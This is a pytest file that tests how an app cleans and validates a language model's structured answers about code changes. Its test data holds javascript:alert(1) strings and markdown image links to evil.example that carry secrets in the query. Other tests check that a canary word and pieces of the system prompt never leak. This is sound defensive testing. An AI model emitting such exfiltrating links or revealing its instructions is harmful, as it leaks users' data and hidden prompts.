"""An answer counts only if it has the form, and what people read of it leads nowhere."""

import time

import pytest

from apps.llm import answers
from apps.llm.answers import SCHEMA
from apps.llm.client import AnswerInvalid
from apps.llm.prompts import canary, system_prompt
from apps.sandbox.completions import strict_flaw
from tests.llm.answering import VALID


def test_the_schema_is_one_that_strict_mode_takes():
    assert strict_flaw(SCHEMA) is None
    assert set(SCHEMA["required"]) == set(VALID)


def test_a_valid_answer_becomes_plain_values():
    answer = answers.read(VALID | {"summary": "  Mends\nthe clock. "})

    assert answer.summary == "Mends the clock."
    assert answer.quote == ""


@pytest.mark.parametrize(
    "change",
    [
        {"kind_of_change": "magic"},
        {"kind_of_change": ["fix"]},
        {"risk": None},
        {"ai_disclosed": "false"},
        {"ai_disclosed": None},
        {"quote": 7},
        {"tool": []},
        {"summary": None},
        {"extra": 1},
    ],
)
def test_any_other_answer_is_refused(change):
    with pytest.raises(AnswerInvalid):
        answers.read(VALID | change)


@pytest.mark.parametrize("field", VALID)
def test_a_missing_field_is_refused(field):
    with pytest.raises(AnswerInvalid):
        answers.read({key: value for key, value in VALID.items() if key != field})


def test_long_texts_are_capped_between_words_and_giant_ones_refused():
    assert len(answers.read(VALID | {"summary": "x" * 3000}).summary) == answers.SUMMARY_CHARS
    assert answers.read(VALID | {"summary": "word " * 100}).summary.endswith("word…")
    assert len(answers.read(VALID | {"description": "a b " * 900}).description) <= 500
    with pytest.raises(AnswerInvalid):
        answers.read(VALID | {"summary": "x" * 1_000_000})


@pytest.mark.parametrize("field", ["summary", "description"])
@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Adds a\x00 b\u202ec\u200bd \ud800e\x1b[31m", "Adds a bcd e[31m"),
        ("Adds\u2028a line", "Adds a line"),
        ("See [the docs](javascript:alert(1)) for it", "See the docs for it"),
        ("![](http://evil.example/?d=secret) Mends it", "Mends it"),
        ("![x](http://evil.example/?d=1)", "x"),
        ("Go to https://evil.example/a?b=c now", "Go to [link] now"),
        ("Go to www.evil.example/x, JAVASCRIPT:alert(1)", "Go to [link] [link]"),
        ("**Bold** `code` | table", "Bold code table"),
        # Autoescaped wherever it is shown: characters, and nothing else.
        ("<b>Mends</b> List<int>", "<b>Mends</b> List<int>"),
        ("Sets api:v2 and uses data: rows", "Sets api:v2 and uses [link] rows"),
    ],
)
def test_what_people_read_leads_nowhere_and_hides_nothing(field, said, shown):
    assert getattr(answers.read(VALID | {field: said}), field) == shown


def test_every_text_of_an_answer_can_be_stored():
    answer = answers.read(VALID | {"quote": "a\x00\ud800b", "tool": "x\udfff", "summary": "\ud83d"})

    assert (answer.quote, answer.tool, answer.summary) == ("ab", "x", "")


@pytest.mark.parametrize("field", ["quote", "tool", "summary", "description"])
@pytest.mark.parametrize("shape", ["{}", "My word is {}.", "<{}>"])
def test_the_canary_never_gets_out(field, shape):
    spaced = " ".join(canary())
    for word in (canary(), canary().upper(), spaced, "\u200b".join(canary()), canary()[::-1]):
        with pytest.raises(AnswerInvalid, match="instructions"):
            answers.read(VALID | {field: shape.format(word)})


def test_a_piece_of_the_instructions_never_gets_out():
    piece = " ".join(system_prompt().split()[20:34])

    with pytest.raises(AnswerInvalid, match="instructions"):
        answers.read(VALID | {"description": f"It says: {piece}."})


@pytest.mark.parametrize("piece", ["[", "[a](", "![", "http://", "www.", "a:", "(", "*", "data:"])
def test_no_summary_takes_more_than_a_moment(piece):
    started = time.process_time()
    answers.read(VALID | {"summary": piece * (4000 // len(piece))})

    assert time.process_time() - started < 1
